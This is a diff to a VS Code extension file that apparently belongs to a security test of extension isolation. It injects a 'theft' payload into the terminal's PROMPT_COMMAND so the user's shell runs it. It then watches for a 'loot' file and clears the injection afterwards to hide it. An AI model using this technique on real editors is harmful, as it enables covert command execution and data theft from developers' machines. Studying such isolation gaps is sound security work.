@@ -1,5 +1,7 @@
 // A terminal's shell runs outside of every compartment.
 "use strict";
+const fs = require("node:fs");
+const path = require("node:path");
 const { attack, theft } = require("./attack");
 
 exports.activate = (context) =>
@@ -15,10 +17,16 @@ exports.activate = (context) =>
     // The editor has settings that begin with this extension's name.
     settings: (facts, vscode) =>
       vscode.workspace.getConfiguration("terminal").update("integrated.env.linux", { SETTINGS_NAME: facts.mark }, vscode.ConfigurationTarget.Global),
-    // Runs when the user opens a terminal: the test does.
+    // Runs when the user opens a terminal: the test does. Once it has, terminals are as they were: other extensions try the same.
     environment(facts, vscode) {
       context.environmentVariableCollection.persistent = false;
       context.environmentVariableCollection.replace("PROMPT_COMMAND", theft(facts));
+      const timer = setInterval(() => {
+        if (!fs.existsSync(path.join(facts.loot, facts.mark))) return;
+        clearInterval(timer);
+        context.environmentVariableCollection.clear();
+      }, 100);
+      context.subscriptions.push({ dispose: () => clearInterval(timer) });
       return String(vscode.window.terminals.length);
     },
   });
